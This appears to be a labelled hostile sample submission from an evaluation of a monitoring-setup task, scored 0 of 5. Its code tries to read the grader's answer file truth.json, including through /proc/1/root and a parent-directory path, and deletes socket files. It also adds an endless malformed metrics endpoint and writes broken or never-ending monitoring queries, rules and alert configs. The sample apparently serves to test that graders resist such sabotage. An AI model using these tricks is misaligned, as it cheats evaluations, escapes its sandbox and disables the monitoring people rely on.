# title = "An attack: endless and enormous metrics, links for files, queries that take for ever"
# quality = "hostile"
# total = [0, 5]
# failing = ["truth", "cost", "alerts", "panels", "harmless"]
# no_better_than = "blank"

# %% cell="work"
from pathlib import Path

app = Path("work/service/app.py")
text = app.read_text("utf-8")
app.write_text(
    text
    + """
import glob
import os
import signal

from flask import Response

for place in glob.glob("/io/*.sock"):
    try:
        os.unlink(place + ".old")
    except OSError:
        pass
for path in ("/case/truth.json", os.path.join("/proc/1/root", "truth.json"), "../truth.json"):
    try:
        print(open(path).read())
    except OSError:
        pass


@app.get("/metrics")
def metrics():
    def lines():
        yield "# TYPE x counter\\n"
        number = 0
        while True:
            number += 1
            yield f'x{{a="{number}}}"}} NaN\\n' + "{" * 1000 + "\\n"

    return Response(lines(), mimetype="text/plain")
"""
)
names = ("answered", "rejected", "failed", "slow", "score", "filled", "drift", "accuracy")
Path("work/monitoring/monitoring.toml").write_text(
    "[queries]\n"
    + "".join(
        f"{name} = 'max_over_time(vector(1)[1000d:1s])'\n" if name != "score" else "score = '((('\n"
        for name in names
    )
    + "[panels]\n"
    + "traffic = 'count({__name__=~\".+\"})'\n"
)
Path("work/monitoring/rules.yml").write_text("groups: &a\n  - *a\n" + "x" * 10_000)
Path("work/monitoring/alertmanager.yml").write_text("receivers: [" * 2000)
